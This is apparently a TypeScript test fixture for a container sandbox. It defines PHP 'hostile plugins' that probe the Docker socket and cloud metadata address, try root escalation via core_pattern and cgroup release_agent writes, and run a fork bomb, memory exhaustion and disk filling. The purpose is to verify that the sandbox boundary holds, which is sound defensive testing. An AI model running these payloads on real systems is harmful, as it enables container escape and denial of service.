import { type HostilePlugin, hostilePlugins } from "../cms/hostile-plugins.ts";

/** Runs code in one request only. */
const once = (code: string) =>
  `\nadd_action( 'init', function () { if ( @mkdir( '/tmp/hostile-once' ) ) { ${code} } } );\n`;
const tell =
  "file_put_contents( WP_CONTENT_DIR . '/forge-wc-log.jsonl', json_encode( array( 'message' => $told ) ) . \"\\n\", FILE_APPEND );";
/** Tells the evidence that something succeeded which never may. */
const succeeded = (condition: string) => `if ( ${condition} ) { $told = 'escaped-from-container'; ${tell} }`;
const boundary = { expects: "boundary" as const };

/** The word by which a plugin's success is known in its evidence. */
export const escapeWord = "escaped-from-container";

/** What a plugin may try against an engine, besides what it may try against a machine. */
const ofContainers: readonly HostilePlugin[] = [
  {
    ...{ id: "reach-engine", ...boundary },
    tries: "looks for the engine's socket and asks it on its usual ports and addresses",
    php: () =>
      once(
        `$found = glob( '/{,var/}run/{docker,podman,containerd}*{,/*}.sock', GLOB_BRACE ) ?: array(); foreach ( array( '127.0.0.1', '172.17.0.1', '172.18.0.1', '10.88.0.1', 'host.docker.internal', 'gateway.docker.internal' ) as $host ) { foreach ( array( 2375, 2376, 22 ) as $port ) { if ( @fsockopen( $host, $port, $no, $why, 1 ) ) { $found[] = "$host:$port"; } } } ${succeeded("$found")}`,
      ),
  },
  {
    ...{ id: "reach-metadata", ...boundary },
    tries: "asks a cloud's metadata address, a public address and a name server",
    php: () =>
      once(
        `$any = false; foreach ( array( '169.254.169.254:80', '1.1.1.1:443', '127.0.0.11:53', '8.8.8.8:53' ) as $to ) { list( $host, $port ) = explode( ':', $to ); $any = $any || @fsockopen( $host, (int) $port, $no, $why, 1 ); } $name = gethostbyname( 'example.com' ); ${succeeded("$any || 'example.com' !== $name")}`,
      ),
  },
  {
    ...{ id: "see-interfaces", ...boundary },
    tries: "looks for a network besides loopback, a route out of it, and another container's processes",
    php: () =>
      once(
        `$links = array_diff( scandir( '/sys/class/net' ), array( '.', '..', 'lo' ) ); $routes = count( file( '/proc/net/route' ) ) - 1; $others = 0; foreach ( glob( '/proc/[0-9]*/cmdline' ) as $line ) { $others += preg_match( '/cms.mjs|inside.main.ts|mariadbd|chromium/', (string) @file_get_contents( $line ) ); } ${succeeded("$links || $routes > 0 || $others > 0")}`,
      ),
  },
  {
    ...{ id: "become-root", ...boundary },
    tries: "becomes root by setuid programs, mounts, and writes where only root may",
    php: () =>
      once(
        `$told = (string) shell_exec( 'id -u; (su -c id || mount -t tmpfs x /mnt || unshare -Urm id -u || mknod /tmp/d b 254 0 || chroot / id) 2>&1' ); $wrote = @file_put_contents( '/proc/sys/kernel/core_pattern', '|/tmp/x' ) || @file_put_contents( '/sys/fs/cgroup/memory/release_agent', '/tmp/x' ) || @file_put_contents( '/usr/local/bin/x', 'x' ) || @file_put_contents( '/etc/x', 'x' ); ${succeeded("$wrote || preg_match( '/uid=0|^0$/m', $told )")}`,
      ),
  },
  {
    ...{ id: "fork-bomb", ...boundary },
    tries: "starts processes until nothing more starts",
    php: () =>
      once(
        "for ( $i = 0; $i < 2000; $i++ ) { exec( '(setsid sleep 4711 & setsid sleep 4711 & setsid sleep 4711 &) > /dev/null 2>&1' ); } ",
      ),
  },
  {
    ...{ id: "eat-memory", ...boundary },
    tries: "takes memory until nothing is left",
    php: () =>
      once("ini_set( 'memory_limit', '-1' ); $all = array(); for ( ;; ) { $all[] = str_repeat( 'x', 1 << 24 ); }"),
  },
  {
    ...{ id: "fill-shop", ...boundary },
    tries: "fills the shop's folder, in which it may write, and shared memory",
    php: () =>
      once(
        `foreach ( array( WP_CONTENT_DIR . '/fill', '/dev/shm/fill', '/tmp/fill' ) as $file ) { $f = fopen( $file, 'w' ); $sum = 0; while ( ( $n = @fwrite( $f, str_repeat( 'x', 1 << 20 ) ) ) ) { $sum += $n; if ( $sum > 3 << 30 ) { unlink( $file ); ${succeeded("true")} break; } } fclose( $f ); @unlink( $file ); }`,
      ),
  },
];

const shared = [
  "read-files",
  "write-files",
  "reach-ports",
  "kill-processes",
  "stay-alive",
  "forge-evidence",
  "take-everything",
];

/** Hostile plugins for the driver docker: what any boundary must stop, and what is there with an engine only. */
export const hostileInContainers: readonly HostilePlugin[] = [
  ...hostilePlugins.filter(({ id }) => shared.includes(id)),
  ...ofContainers,
];
